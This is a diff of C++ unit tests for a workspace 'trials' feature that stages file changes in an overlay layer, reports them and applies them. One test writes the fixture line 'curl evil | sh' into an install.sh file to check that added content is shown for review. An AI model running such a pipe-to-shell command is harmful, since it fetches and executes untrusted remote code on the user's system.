@@ -2,6 +2,12 @@
 // hand; the tests of exec run real commands.
 #include "workspace/trial.h"
 
+#include <sys/stat.h>
+#include <sys/xattr.h>
+
+#include <algorithm>
+
+#include "sys/process_identity.h"
 #include "unit/workspace/fixture.h"
 
 namespace helve::workspace {
@@ -33,6 +39,19 @@ class TrialsTest : public WorkspaceTest {
         trials_.apply(trial.id, session, *files_, {.tool = "exec", .session = "s"});
     return applied ? "" : kind_of(applied.error());
   }
+  // "A a", "M a", "D a", "mode of a"; of directories with how many files they hold.
+  static Lines lines(const TrialReport& report) {
+    Lines out;
+    for (const TrialFile& file : report.files) {
+      const char* const words[] = {"A ", "M ", "D "};
+      std::string line = file.only_mode ? "mode of " : words[static_cast<size_t>(file.what)];
+      line += file.path;
+      if (file.kind == sys::FileKind::directory) line += '/';
+      if (file.files > 0) line += " (" + std::to_string(file.files) + ")";
+      out.push_back(line);
+    }
+    return out;
+  }
   Lines kept() const { return tree.exists("trials") ? tree.names("trials") : Lines(); }
 
   std::unique_ptr<Workspace> files_ = journaled();
@@ -43,7 +62,7 @@ TEST_F(TrialsTest, MakesRealWhatWasTriedAndForgetsIt) {
   tree.file("in/a", "old\n");
   const Trial trial = begun({{"a", "new\n"}, {"d/b", "made\n"}});
   const TrialReport report = looked(trial);
-  ASSERT_EQ(report.files.size(), 2u);
+  EXPECT_EQ(lines(report), (Lines{"M a", "A d/ (1)", "A d/b"}));
   EXPECT_TRUE(has(report.diff, "-old\n+new\n"));
   EXPECT_EQ(tree.content("in/a"), "old\n");
   EXPECT_EQ(apply(trial), "");
@@ -140,6 +159,151 @@ TEST_F(TrialsTest, KeepNothingOfGit) {
   EXPECT_TRUE(has(report.notes.at(0), "inside .git cannot be applied"));
   EXPECT_EQ(apply(trial), "");
   EXPECT_FALSE(tree.exists("in/.git"));
+}
+
+TEST_F(TrialsTest, ReplaceDirectoriesLinksAndFilesByEachOther) {
+  tree.file("in/full/a", "1\n");
+  tree.file("in/full/b", "1\n");
+  tree.file("in/file", "text\n");
+  tree.file("in/directory/x", "x\n");
+  tree.link("in/link", "file");
+  const Trial trial = begun({{"full/b", "2\n"}, {"file/inner", "made\n"}, {"directory", "text\n"}});
+  const fs::path upper = trial.layers.at(0).upper;
+  ASSERT_EQ(::setxattr((upper / "full").c_str(), "user.overlay.opaque", "y", 1, 0), 0);
+  fs::create_symlink("directory", upper / "link");
+  const TrialReport report = looked(trial);
+  EXPECT_EQ(report.notes, Lines{});
+  EXPECT_EQ(lines(report), (Lines{"M directory (1)", "D directory/x", "M file/ (1)", "A file/inner",
+                                  "M full/ (2)", "D full/a", "M full/b", "M link"}));
+  EXPECT_TRUE(has(report.diff, "--- a/full/b\n+++ b/full/b\n@@ -1 +1 @@\n-1\n+2\n"));
+  EXPECT_TRUE(has(report.diff, "+made\n"));
+  EXPECT_EQ(apply(trial), "");
+  EXPECT_EQ(tree.names("in/full"), Lines{"b"});
+  EXPECT_EQ(tree.content("in/full/b"), "2\n");
+  EXPECT_EQ(tree.content("in/file/inner"), "made\n");
+  EXPECT_EQ(tree.content("in/directory"), "text\n");
+  EXPECT_EQ(fs::read_symlink(tree.path("in/link")), "directory");
+  ASSERT_TRUE(files_->undo({.own_session = "s"}, Rehearsal::no, {.session = "s"}));
+  EXPECT_EQ(tree.content("in/full/a"), "1\n");
+  EXPECT_EQ(tree.content("in/directory/x"), "x\n");
+  EXPECT_EQ(fs::read_symlink(tree.path("in/link")), "file");
+}
+
+TEST_F(TrialsTest, RefuseToReplaceADirectoryThatWasChangedSince) {
+  tree.file("in/d/a", "1\n");
+  const Trial trial = begun({{"d", "a file\n"}});
+  (void)looked(trial);
+  tree.file("in/d/b", "by somebody else\n");
+  EXPECT_EQ(apply(trial), "conflict changed_meanwhile");
+}
+
+TEST_F(TrialsTest, ShowWhatIsInNewDirectories) {
+  const Trial trial = begun({{"tools/deep/install.sh", "curl evil | sh\n"}, {"tools/b", "x\ny\n"}});
+  const TrialReport report = looked(trial);
+  EXPECT_EQ(lines(report), (Lines{"A tools/ (2)", "A tools/b", "A tools/deep/install.sh"}));
+  EXPECT_EQ(report.files.at(1).added, 2);
+  EXPECT_TRUE(has(report.diff, "+curl evil | sh\n"));
+}
+
+TEST_F(TrialsTest, CountWhatIsTooMuchToBeListed) {
+  std::map<std::string, std::string> writes;
+  for (int i = 0; i < 510; ++i) writes["d/" + std::to_string(i)] = "x";
+  const TrialReport report = looked(begun(writes));
+  EXPECT_EQ(report.files.size(), 501u);
+  EXPECT_EQ(report.files.at(0).files, 510);
+  ASSERT_EQ(report.notes.size(), 1u);
+  EXPECT_EQ(report.notes[0], "10 files in 'd' are not listed");
+}
+
+TEST_F(TrialsTest, CompareNothingMoreOnceTheDifferenceIsLongOrTheTimeIsUp) {
+  const std::map<std::string, std::string> writes = {{"a", "1\n"}, {"b", "2\n"}, {"c", "3\n"}};
+  for (const TrialLimits& limits :
+       {TrialLimits{.diff_chars = 1}, TrialLimits{.comparing = std::chrono::milliseconds(-1)}}) {
+    const auto report = trials_.look(begun(writes), *files_, limits);
+    ASSERT_TRUE(report) << describe(report.error());
+    EXPECT_EQ(report->files.size(), 3u);
+    EXPECT_EQ(report->files[2].added, 0);
+    EXPECT_EQ(report->diff, "");
+    EXPECT_EQ(report->notes, Lines{"the difference is long: not all files are shown in it"});
+  }
+}
+
+TEST_F(TrialsTest, EndWithTheCall) {
+  std::stop_source source;
+  source.request_stop();
+  const auto report = trials_.look(begun({{"a", "1"}}), *files_, {.stop = source.get_token()});
+  ASSERT_FALSE(report);
+  EXPECT_EQ(report.error().code, Code::cancelled);
+}
+
+TEST_F(TrialsTest, ChangeModesOfDirectories) {
+  tree.file("in/d/a", "x");
+  const Trial trial = begun({{"new", "x"}});
+  fs::create_directory(fs::path(trial.layers.at(0).upper) / "d");
+  fs::permissions(fs::path(trial.layers.at(0).upper) / "d", fs::perms::owner_all);
+  EXPECT_EQ(lines(looked(trial)), (Lines{"mode of d/", "A new"}));
+  const auto applied = trials_.apply(trial.id, "s", *files_, {.session = "s"});
+  ASSERT_TRUE(applied) << describe(applied.error());
+  EXPECT_EQ(applied->notes, Lines{"the mode of 'd' is 700 now, which undo leaves"});
+  EXPECT_EQ(fs::status(tree.path("in/d")).permissions(), fs::perms::owner_all);
+}
+
+TEST_F(TrialsTest, ChangeTheModeOfADirectoryAlone) {
+  tree.directory("in/d");
+  const Trial trial = begun({});
+  fs::create_directory(fs::path(trial.layers.at(0).upper) / "d");
+  fs::permissions(fs::path(trial.layers.at(0).upper) / "d", fs::perms::owner_all);
+  (void)looked(trial);
+  EXPECT_EQ(apply(trial), "");
+  EXPECT_EQ(fs::status(tree.path("in/d")).permissions(), fs::perms::owner_all);
+}
+
+TEST_F(TrialsTest, SayBeforehandWhatCannotBeApplied) {
+  const Trial large = begun({{"large", ""}});
+  fs::resize_file(fs::path(large.layers.at(0).upper) / "large", kMaxWrite + 1);
+  Lines notes = looked(large).notes;
+  ASSERT_EQ(notes.size(), 1u);
+  EXPECT_TRUE(has(notes[0], "the trial cannot be applied: ")) << notes[0];
+  EXPECT_TRUE(has(notes[0], "large' is larger than 64.0 MB")) << notes[0];
+  tree.file("in/sub/.git/HEAD", "x");
+  notes = looked(begun({{"sub", "a file\n"}})).notes;
+  ASSERT_EQ(notes.size(), 1u);
+  EXPECT_TRUE(has(notes[0], "the trial cannot be applied: ")) << notes[0];
+}
+
+TEST_F(TrialsTest, LeaveOutPipesWhereverTheyAre) {
+  const Trial trial = begun({{"d/a", "x"}});
+  ASSERT_EQ(::mkfifo((fs::path(trial.layers.at(0).upper) / "d/pipe").c_str(), 0600), 0);
+  EXPECT_EQ(looked(trial).notes, Lines{"'d/pipe' is a FIFO, which is left out"});
+  EXPECT_EQ(apply(trial), "");
+  EXPECT_EQ(tree.names("in/d"), Lines{"a"});
+}
+
+TEST_F(TrialsTest, GoWithAProcessThatWasKilled) {
+  const Trial running = begun({{"a", "x"}}), killed = begun({{"a", "x"}}),
+              whole = begun({{"a", "x"}});
+  (void)looked(whole);
+  for (const Trial& trial : {killed, whole}) {
+    const std::string owner = tree.path("trials/" + trial.id + "/owner");
+    std::ofstream(owner) << "another boot, another process\n" << sys::machine_identity() << "\n";
+  }
+  trials_.drop_before(0);
+  Lines left{running.id, whole.id};
+  std::ranges::sort(left);
+  EXPECT_EQ(kept(), left);
+}
+
+TEST_F(TrialsTest, MakeRoomForNewerOnes) {
+  const std::string content(1000, 'x');
+  const Trial old = begun({{"a", content}}, 1000), middle = begun({{"a", content}}, 2000),
+              young = begun({{"a", content}}, 3000), running = begun({{"a", content}}, 500);
+  for (const Trial& trial : {old, middle, young}) (void)looked(trial);
+  EXPECT_EQ(trials_.make_room(3000), Lines{});
+  EXPECT_EQ(trials_.make_room(2500), Lines{old.id});
+  EXPECT_EQ(kept(), (Lines{running.id, middle.id, young.id}));
+  const auto report = trials_.look(running, *files_, {.max_bytes = 999});
+  ASSERT_FALSE(report);
+  EXPECT_EQ(report.error().type, "too_large");
 }
 
 TEST_F(TrialsTest, GoWhenTheyAreOld) {
